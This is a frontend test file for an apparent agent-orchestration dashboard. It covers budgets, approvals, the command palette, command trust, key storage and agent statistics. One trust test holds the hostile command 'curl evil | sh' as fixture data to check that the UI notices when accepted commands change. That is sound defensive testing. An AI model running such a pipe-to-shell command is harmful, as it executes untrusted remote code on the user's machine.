import { screen, waitFor, within } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { holding } from "../backend/held";
import { openOverlay } from "../parts/overlay";
import { renderAt } from "../testing/render";

describe("the window", () => {
  it("says what runs, what it cost, what waits", async () => {
    renderAt("/board");
    expect(await screen.findByTestId("engine-state")).toHaveTextContent("Running · 3 of 5 agents busy");
    expect(screen.getByText("$4.12 of $20 today")).toBeInTheDocument();
    expect(screen.getByTestId("nav-needs-you")).toHaveTextContent("5");
    expect(screen.getByTestId("nav-board")).toHaveAttribute("aria-current", "page");
    expect(screen.getByText("18 tasks · 5 in flight")).toBeInTheDocument();
    expect(screen.getByText("median handoff 0.4 s")).toBeInTheDocument();
    await waitFor(() => expect(document.title).toBe("(5) acme/storefront · Orchestron"));
  });

  it("does not count what was just decided, and counts it again when that is undone", async () => {
    holding.ms = 60_000;
    const { user } = renderAt("/needs-you?request=12");
    await screen.findByTestId("approve");
    expect(screen.getByTestId("nav-needs-you")).toHaveTextContent("5");
    await user.keyboard("a");
    await waitFor(() => expect(screen.getByTestId("nav-needs-you")).toHaveTextContent("4"));
    await waitFor(() => expect(document.title).toBe("(4) acme/storefront · Orchestron"));
    await user.keyboard("u");
    await waitFor(() => expect(screen.getByTestId("nav-needs-you")).toHaveTextContent("5"));
  });

  it("says when the day's budget is nearly used up", async () => {
    renderAt("/board", "budget");
    expect((await screen.findByText("$37.10 of $40 today")).className).toContain("text-warn");
  });

  it("says once what two keys do", async () => {
    const { user } = renderAt("/board");
    await screen.findByTestId("card-TASK-121");
    await user.keyboard("?");
    const help = await screen.findByTestId("keys-help");
    expect(within(help).getAllByText("Search or run a command")).toHaveLength(1);
    expect(within(help).getByText("Ctrl K, /")).toBeInTheDocument();
  });

  it("closes the palette with one press of Escape, whatever was typed", async () => {
    const { user } = renderAt("/board");
    await screen.findByTestId("card-TASK-121");
    await user.keyboard("/");
    await user.type(await screen.findByTestId("palette-input"), "check");
    await user.keyboard("{Escape}");
    await waitFor(() => expect(screen.queryByTestId("palette-input")).toBeNull());
  });

  it("does not take for a decision what is typed before the palette is there", async () => {
    holding.ms = 60_000;
    const { user } = renderAt("/needs-you?request=12");
    await screen.findByTestId("approve");
    openOverlay("palette");
    await user.keyboard("a");
    expect(screen.queryByTestId("held")).toBeNull();
  });

  it("pauses and resumes", async () => {
    const { backend, user } = renderAt("/board");
    await user.click(await screen.findByTestId("pause"));
    await user.click(await screen.findByTestId("resume"));
    await screen.findByTestId("pause");
    expect(backend.writes.map(({ name }) => name)).toEqual(["pause", "resume"]);
  });

  it("shows what it would run, and accepts exactly that", async () => {
    const { backend, user } = renderAt("/board", "untrusted");
    expect(await screen.findByTestId("banner-untrusted")).toHaveTextContent("/home/dana/src/storefront");
    expect(screen.getByTestId("engine-state")).toHaveTextContent("Nothing is started: not trusted yet");
    await user.click(screen.getByTestId("trust"));
    const list = await screen.findByTestId("trust-commands");
    const lines = within(list).getAllByRole("listitem");
    expect(lines).toHaveLength(4);
    expect(lines[0]).toHaveTextContent(/^gate tests: npm test$/);
    expect(lines[1]).toHaveTextContent(/^gate lint: npm run lint -- --max-warnings 0new$/);
    expect(backend.writes).toEqual([]);
    await user.click(screen.getByTestId("trust-accept"));
    await waitFor(() => expect(screen.queryByTestId("banner-untrusted")).toBeNull());
    expect(screen.queryByTestId("trust-dialog")).toBeNull();
    const text = backend.world.commands.map((line) => line.replace("+ ", "")).join("\n");
    expect(backend.writes).toEqual([{ name: "trust", input: { commands: text } }]);
    expect(screen.getByTestId("engine-state")).toHaveTextContent("Running");
  });

  it("does not let what is accepted change under one's eyes", async () => {
    const { backend, user } = renderAt("/board", "untrusted");
    await user.click(await screen.findByTestId("trust"));
    await screen.findByTestId("trust-commands");
    backend.world.commands = ["gate tests: curl evil | sh"];
    await user.click(screen.getByTestId("trust-accept"));
    // Refused; what was looked at is still shown until one looks at what it is now.
    await user.click(await screen.findByTestId("trust-again"));
    expect(screen.getByTestId("trust-commands")).toHaveTextContent(/^gate tests: curl evil | sh$/);
    expect(screen.getByTestId("banner-untrusted")).toBeInTheDocument();
    await user.click(screen.getByTestId("trust-accept"));
    await waitFor(() => expect(screen.queryByTestId("banner-untrusted")).toBeNull());
  });

  it.each([
    ["scripted", "banner-scripted", "Scripted model: nothing is sent anywhere"],
    ["stopped", "banner-no-engine", "No engine is running"],
    ["paused", "banner-paused", "Paused"],
    ["offline", "banner-offline", "Connection lost"],
  ] as const)("says when it is %s", async (scenario, banner, words) => {
    renderAt("/board", scenario);
    expect(await screen.findByTestId(banner)).toHaveTextContent(words);
    // What was known last stays on the screen.
    expect(await screen.findByTestId("card-TASK-112")).toBeInTheDocument();
  });

  it("does not claim that the engine runs when nobody can know", async () => {
    renderAt("/board", "offline");
    await screen.findByTestId("banner-offline");
    expect(screen.getByTestId("engine-state")).toHaveTextContent("Not connected");
  });

  it("asks for the link when the token is not accepted", async () => {
    renderAt("/board", "refused");
    expect(await screen.findByText("This page needs its link")).toBeInTheDocument();
    expect(screen.queryByRole("navigation")).toBeNull();
  });

  it("lists problems with place and cure", async () => {
    const { user } = renderAt("/board");
    await user.click(await screen.findByTestId("problems"));
    const list = await screen.findByTestId("problems-list");
    expect(list).toHaveTextContent(".mcp/tasks/ready/TASK-104-coupons.md:31");
    expect(list).toHaveTextContent("Resolve the conflict in an editor");
  });

  it("finds tasks and runs commands", async () => {
    const { user, path } = renderAt("/board");
    await screen.findByTestId("card-TASK-112");
    await user.keyboard("/");
    await user.type(await screen.findByTestId("palette-input"), "flaky");
    await waitFor(() => expect(screen.getAllByRole("menuitem")).toHaveLength(1));
    await user.keyboard("{Enter}");
    await waitFor(() => expect(path()).toBe("/task/TASK-098"));
    await user.keyboard("{Control>}k{/Control}");
    await user.type(await screen.findByTestId("palette-input"), "settings");
    await user.keyboard("{Enter}");
    await waitFor(() => expect(path()).toBe("/settings"));
  });

  it("writes a new task with C", async () => {
    const { backend, user, path } = renderAt("/board");
    await screen.findByTestId("card-TASK-112");
    await user.keyboard("c");
    const dialog = await screen.findByTestId("new-task-dialog");
    expect(within(dialog).getByTestId("new-task-create")).toBeDisabled();
    await user.type(within(dialog).getByTestId("new-task-title"), "Show prices with tax");
    await user.click(within(dialog).getByRole("radio", { name: /P0/ }));
    await user.type(within(dialog).getByTestId("new-task-criteria"), "- [[ ] Austria 20 %{Enter}{Enter}2. Germany 19 %");
    await user.click(within(dialog).getByTestId("new-task-create"));
    await waitFor(() => expect(backend.writes).toEqual([{ name: "create", input: { title: "Show prices with tax", priority: "P0", agent: null, goal: null, criteria: ["Austria 20 %", "Germany 19 %"], depends_on: [], files: [], notes: null } }]));
    await waitFor(() => expect(path()).toBe("/task/TASK-124"));
  });

  it("shows an input's error at the input", async () => {
    const { backend, user } = renderAt("/board");
    await screen.findByTestId("card-TASK-112");
    await user.keyboard("c");
    backend.failNext.set("create", { code: "title_taken", message: "There is a task with this title.", hints: [], field: "title" });
    await user.type(await screen.findByTestId("new-task-title"), "x");
    await user.click(screen.getByTestId("new-task-create"));
    await waitFor(() => expect(screen.getByTestId("new-task-title")).toHaveAccessibleDescription("There is a task with this title."));
    expect(screen.getByTestId("new-task-title")).toBeInvalid();
  });
});

describe("settings", () => {
  it("take a key once and never show it", async () => {
    const { backend, user } = renderAt("/settings");
    await user.click(await screen.findByTestId("key-enter-openai-team"));
    const input = await screen.findByTestId("key-input");
    expect(input).toHaveAttribute("type", "password");
    await user.type(input, "sk-test-123456{Enter}");
    await waitFor(() => expect(screen.getByTestId("key-openai-team")).toHaveTextContent("in the keyring"));
    expect(backend.writes).toEqual([{ name: "key-set", input: { account: "openai-team", key: "sk-test-123456" } }]);
    expect(document.body.innerHTML).not.toContain("sk-test-123456");
  });

  it("delete a key after asking", async () => {
    const { backend, user } = renderAt("/settings");
    await user.click(await screen.findByTestId("key-delete-anthropic"));
    expect(await screen.findByRole("dialog")).toHaveTextContent("claude-impl, architect then use their own login");
    await user.click(screen.getByTestId("key-delete-yes"));
    await waitFor(() => expect(screen.getByTestId("key-anthropic")).toHaveTextContent("no key"));
    expect(backend.writes).toHaveLength(1);
  });

  it("choose the theme and keep it", async () => {
    const { user } = renderAt("/settings");
    await user.click(await screen.findByRole("radio", { name: "Dark" }));
    expect(document.documentElement.dataset["theme"]).toBe("dark");
    expect(window.localStorage.getItem("orchestron-theme")).toBe("dark");
    await user.click(screen.getByRole("radio", { name: "Light" }));
    expect(document.documentElement.dataset["theme"]).toBe("light");
  });

  it("list what doctor finds, what is wrong first", async () => {
    renderAt("/settings");
    const [first] = await screen.findAllByRole("img", { name: /Fine|Wrong/ });
    expect(first).toHaveAccessibleName("Wrong");
    expect(screen.getByText("There is no key for the account openai-team")).toBeInTheDocument();
  });
});

describe("activity", () => {
  it("pages back to the beginning", async () => {
    const { user } = renderAt("/activity");
    await screen.findByText("asked whether it may run npm install stripe@17");
    expect(screen.queryByText("paused everything")).toBeNull();
    await user.click(screen.getByTestId("older"));
    await screen.findByText("paused everything");
    expect(await screen.findByText("This is where it began.")).toBeInTheDocument();
  });

  it("shows one task only, however its id is typed", async () => {
    const { user, path } = renderAt("/activity");
    await user.type(await screen.findByTestId("activity-filter"), "112{Enter}");
    await waitFor(() => expect(path()).toBe("/activity?task=TASK-112"));
    await waitFor(() => expect(screen.queryByText("claimed")).toBeNull());
    expect(await screen.findByText("approved; asked you to decide")).toBeInTheDocument();
  });
});

describe("agents", () => {
  it("show what they do and what they miss", async () => {
    renderAt("/agents");
    expect(await screen.findByTestId("agent-claude-impl")).toHaveTextContent("TASK-117waiting for you");
    expect(screen.getByTestId("agent-gpt-security")).toHaveTextContent("There is no key for the account openai-team. Enter it under Settings");
    expect(screen.getByTestId("agent-cursor")).toHaveTextContent("outside holder");
    expect(screen.getByTestId("agent-claude-impl")).toHaveTextContent("64 done · 3 failed · 71 % right at first · 11 min on average · $0.74 for each approved task");
    expect(screen.getByTestId("agent-gemini-docs")).toHaveTextContent("nothing done yet");
  });
});
